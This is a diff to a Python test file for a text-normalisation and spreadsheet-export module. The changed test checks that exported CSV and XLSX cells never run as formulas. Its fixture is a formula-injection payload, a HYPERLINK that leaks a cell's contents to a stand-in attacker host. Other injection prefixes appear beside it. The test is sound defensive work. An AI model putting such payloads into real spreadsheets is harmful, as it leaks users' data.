@@ -1,5 +1,7 @@
 """The search normalisation: every spelling variant the coalition's members type must meet."""
 
+import io
+
 import pytest
 
 from core.text import normalise, search_terms
@@ -64,7 +66,7 @@ def test_names_refuse_invisible_characters_and_texts_refuse_direction_overrides(
 def test_exported_cells_never_run_as_formulas_and_read_back_as_typed():
     import openpyxl
 
-    from core.exports import csv_cell, from_csv_cell, xlsx_append
+    from core.exports import csv_cell, from_csv_cell, xlsx_cells
 
     attack = '=HYPERLINK("http://evil.example/?leak="&A3,"Click")'
     for value in (attack, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
@@ -72,6 +74,10 @@ def test_exported_cells_never_run_as_formulas_and_read_back_as_typed():
         assert from_csv_cell(csv_cell(value)) == value
     assert csv_cell("Deirna") == "Deirna" and csv_cell(12) == 12 and csv_cell(-5) == -5
     assert from_csv_cell("'quoted by a person") == "'quoted by a person"
-    sheet = openpyxl.Workbook().active
-    xlsx_append(sheet, [attack, 3])
-    assert sheet["A1"].data_type == "s" and sheet["A1"].value == attack and sheet["B1"].data_type == "n"
+    book = openpyxl.Workbook(write_only=True)
+    sheet = book.create_sheet()
+    sheet.append(xlsx_cells(sheet, [attack, 3]))
+    out = io.BytesIO()
+    book.save(out)
+    cells = openpyxl.load_workbook(out).active
+    assert cells["A1"].data_type == "s" and cells["A1"].value == attack and cells["B1"].value == 3
